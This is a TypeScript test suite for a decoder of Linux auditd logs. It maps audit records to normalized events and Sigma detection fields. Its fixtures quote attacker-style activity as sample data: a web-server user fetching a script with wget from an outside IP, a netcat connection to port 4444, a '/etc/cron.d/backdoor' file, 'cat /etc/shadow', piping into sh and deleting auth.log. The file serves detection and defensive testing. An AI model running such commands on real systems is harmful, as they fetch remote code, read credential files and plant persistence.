import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { eventOf, expectNeverThrows, expectSound, textInput } from "../test-input.ts";
import { decoder } from "./decoder.ts";
import { parseSocketAddress } from "./sockaddr.ts";

/** Blocks are separated by blank lines: each is one event, as the decode stage joins it. */
const read = (name: string): readonly string[] =>
  readFileSync(new URL(`samples/${name}`, import.meta.url), "utf8")
    .split("\n\n")
    .map((block) => block.trim());

const blocks = read("events.log");
const bySerial = new Map(blocks.map((block) => [/:(\d+)\)/.exec(block)?.[1], block]));

const outcomeOf = (serial: number) => {
  const outcome = decoder.decode(textInput(bySerial.get(String(serial)) ?? ""));
  if (outcome.kind !== "decoded") throw new Error(`event ${serial} is ${outcome.kind}`);
  return outcome;
};

describe("linux-auditd", () => {
  it("gives each event its class, activity and status", () => {
    const rows = blocks.map((block) => {
      const event = eventOf(decoder.decode(textInput(block)));
      expectSound(event);
      return [event.metadata.uid, event.type_uid, event.status_id];
    });
    expect(rows).toEqual([
      ["4001", 100_701, 1],
      ["4002", 100_701, 2],
      ["4003", 400_101, undefined],
      ["4004", 400_101, 1],
      ["4005", 100_101, 1],
      ["4006", 100_104, 1],
      ["4007", 100_107, 1],
      ["4008", 100_304, 1],
      ["4009", 300_201, 2],
      ["4010", 300_201, 1],
      ["4011", 300_206, 1],
      ["4012", 100_701, 1],
      ["4013", 300_101, 1],
      ["4014", 300_106, 1],
      ["4015", 600_204, 1],
      ["4016", 0, 1],
      ["4017", 0, undefined],
      ["4018", 100_701, 1],
    ]);
  });

  it("reads a started process from all its records", () => {
    const { event, logsource, sigmaFields } = outcomeOf(4001);
    expect(event.time).toBe(1_768_449_601_123);
    expect(event.process).toEqual({
      name: "wget",
      pid: 2111,
      cmd_line: "wget -O /tmp/a b http://198.51.100.77/x.sh",
      working_directory: "/var/www/html",
      file: { path: "/usr/bin/wget", name: "wget" },
      user: { uid: "33", name: "www-data" },
      session: { uid: "7", terminal: "pts0" },
      parent_process: { pid: 2100 },
    });
    expect(event.actor?.user).toEqual({ uid: "1000", name: "alice" });
    expect(logsource).toEqual({
      product: "linux",
      services: ["auditd"],
      categories: ["process_creation"],
    });
    expect(sigmaFields).toEqual({
      Image: "/usr/bin/wget",
      CommandLine: "wget -O /tmp/a b http://198.51.100.77/x.sh",
      ParentProcessId: 2100,
      ProcessId: 2111,
      User: "www-data",
      CurrentDirectory: "/var/www/html",
      LogonId: "7",
    });
  });

  it("keeps auditd's own names as SigmaHQ's rules have them", () => {
    expect(outcomeOf(4001).event.unmapped).toMatchObject({
      type: ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
      SYSCALL: "execve",
      syscall: "59",
      a0: "wget",
      a1: "-O",
      a2: "/tmp/a b",
      a3: "http://198.51.100.77/x.sh",
      syscall_args: ["55d1c0", "55d1d0", "55d1e0", "8"],
      name: ["/usr/bin/wget", "/lib64/ld-linux-x86-64.so.2"],
      nametype: "NORMAL",
      key: "susp_activity",
      exe: "/usr/bin/wget",
      euid: "33",
    });
    expect(outcomeOf(4008).event.unmapped).toMatchObject({
      type: "SYSCALL",
      SYSCALL: "personality",
      a0: "40000",
    });
    expect(outcomeOf(4006).event.unmapped).toMatchObject({ key: ["delete", "logs"] });
    expect(outcomeOf(4015).event.unmapped).toMatchObject({ unit: "firewalld" });
    expect(outcomeOf(4017).event.unmapped).toMatchObject({ type: "TTY", data: "id\r" });
  });

  it("calls a failed execve no process creation and unset ids nothing", () => {
    const { event, logsource } = outcomeOf(4002);
    expect(logsource.categories).toEqual([]);
    expect(event.actor).toBeUndefined();
    expect(event.device?.hostname).toBe("db-1");
    expect(event.process?.session).toBeUndefined();
  });

  it("reads socket addresses of both kinds", () => {
    expect(outcomeOf(4003).event.dst_endpoint).toEqual({ ip: "198.51.100.77", port: 4444 });
    expect(outcomeOf(4003).sigmaFields).toMatchObject({
      DestinationIp: "198.51.100.77",
      DestinationPort: 4444,
      Image: "/usr/bin/nc.openbsd",
    });
    expect(outcomeOf(4004).event.dst_endpoint).toEqual({ ip: "2001:db8::7", port: 443 });
  });

  it("makes paths absolute and takes the file, not its folder", () => {
    expect(outcomeOf(4005).event.file).toEqual({
      path: "/etc/cron.d/backdoor",
      name: "backdoor",
    });
    expect(outcomeOf(4005).sigmaFields).toMatchObject({ TargetFilename: "/etc/cron.d/backdoor" });
    expect(outcomeOf(4006).event.file?.path).toBe("/var/log/auth.log");
  });

  it("reads messages from user space", () => {
    expect(outcomeOf(4009).event).toMatchObject({
      user: { name: "(unknown)" },
      src_endpoint: { ip: "203.0.113.50" },
      service: { name: "sshd" },
    });
    expect(outcomeOf(4010).event.user).toEqual({ name: "alice", uid: "1000" });
    expect(outcomeOf(4012).event.process?.cmd_line).toBe("cat /etc/shadow");
    expect(outcomeOf(4013).event).toMatchObject({
      user: { name: "mallory", uid: "1001" },
      actor: { user: { name: "alice" } },
    });
  });

  it("joins the pieces of a long argument before decoding them", () => {
    expect(outcomeOf(4018).event.unmapped).toMatchObject({ a2: "echo été | sh", a3: "" });
  });

  it("reads what the kernel logs itself when no auditd runs", () => {
    const line =
      'Jan 15 04:00:00 web-1 kernel: audit: type=1400 audit(1768449615.000:77): apparmor="DENIED" operation="open" profile="snap.x" name="/etc/shadow" pid=9 comm="x"';
    const event = eventOf(decoder.decode(textInput(line)));
    expect(event.time).toBe(1_768_449_615_000);
    expect(event.unmapped).toMatchObject({ type: "AVC", apparmor: "DENIED", name: "/etc/shadow" });
  });

  it("answers malformed records", () => {
    const outcomes = read("malformed.log").map((block) => decoder.decode(textInput(block)));
    expect(outcomes.map((outcome) => outcome.kind)).toEqual(["undecodable", "decoded", "decoded"]);
  });

  it("takes the arguments that are there, whatever argc says", () => {
    const text = 'type=EXECVE msg=audit(1768449614.000:1): argc=4000000000 a0="x" a2="y"';
    expect(eventOf(decoder.decode(textInput(text))).unmapped).toMatchObject({ a0: "x" });
  });

  it("never throws", () => {
    expectNeverThrows(decoder, blocks, textInput);
  });
});

describe("parseSocketAddress", () => {
  it("reads local sockets, the other byte order, and nothing from what is too short", () => {
    const path = Buffer.from("/run/x.sock\0rest").toString("hex");
    expect(parseSocketAddress(`0100${path}`)).toEqual({ path: "/run/x.sock" });
    expect(parseSocketAddress(`010000${Buffer.from("abc").toString("hex")}`)).toEqual({
      path: "@abc",
    });
    expect(parseSocketAddress("00020050C0000201")).toEqual({ ip: "192.0.2.1", port: 80 });
    for (const hex of ["02", "0200", "020000", "0A000050", "FFFF0000", "zz", undefined]) {
      expect(parseSocketAddress(hex)).toBeUndefined();
    }
  });
});
